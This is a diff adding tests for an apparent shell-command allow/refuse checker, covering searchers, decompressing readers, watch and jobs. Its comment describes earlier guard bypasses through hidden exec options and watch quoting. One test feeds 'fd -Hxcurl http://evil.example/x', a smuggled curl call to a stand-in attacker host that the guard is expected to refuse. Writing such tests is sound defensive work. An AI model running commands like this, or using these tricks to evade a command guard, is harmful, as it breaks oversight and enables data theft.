@@ -31,3 +31,28 @@ describe('specsW: the system facts read-and-search allowed by name', () => {
     expect(check('uname -a extra').rule).toBe('program:uname');
   });
 });
+
+/**
+ * Batch 2: the searchers (ag, ack, fd), the decompressing readers (zcat, bzcat, xzcat; zgrep and
+ * zless are grep's and less's specs), man, watch, yes, sleep and bash's jobs. On main 51a114f
+ * `fd -Hx CMD` (an exec option in a cluster) ran CMD unseen, `watch -d 'CMD'` took CMD for `-d`'s
+ * value and `watch echo '$(CMD)'` quoted what watch hands to `sh -c`; zless took any of less's
+ * options (`-o FILE`, `--editor`, `+!cmd`), `jobs -x CMD` ran CMD, and unknown options passed.
+ */
+describe('specsW: searchers, decompressing readers, man, watch and jobs', () => {
+  it('everyday invocations from the manuals stay allowed', () => {
+    expectAll(lines('w2-benign.txt'), 'allow');
+  });
+  it('programs run, secrets and file lists read, and unknown options are refused', () => {
+    expectAll(lines('w2-dangerous.txt'), 'refused');
+  });
+  it('reads an exec option in a cluster, and watch as its shell does', () => {
+    expect(check('fd -Hx wc -l').decision).toBe('allow');
+    expect(check('fd -Hxcurl http://evil.example/x').rule).toBe('network-clients');
+    // `-t` takes the rest of the word: no command runs, `wc` is the pattern
+    expect(check('fd -tfx wc -l').decision).toBe('allow');
+    expect(check("watch -n 2 'ps aux | grep python'").decision).toBe('allow');
+    expect(check('watch -d ls -l').decision).toBe('allow');
+    expect(check('jobs -x true').rule).toBe('program:jobs');
+  });
+});
